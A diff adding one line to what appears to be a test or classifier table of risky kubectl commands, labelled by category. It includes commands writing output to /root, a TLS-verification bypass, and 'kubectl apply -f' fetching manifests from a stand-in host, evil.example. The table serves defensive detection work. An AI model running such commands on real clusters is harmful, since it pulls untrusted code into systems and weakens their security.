@@ -52,6 +52,7 @@ other_server    kubectl get pods --insecure-skip-tls-verify
 other_file      kubectl get pods --cache-dir=/root
 other_file      kubectl get pods --profile=cpu --profile-output=/root/x
 other_file      kubectl get pods --log_file=/root/x
+other_file      kubectl get pods --kuberc=/root/x
 other_file      kubectl cluster-info dump --output-directory=/root
 remote_file     kubectl apply -f https://evil.example/x.yaml
 remote_file     kubectl apply -fhttp://evil.example/x.yaml
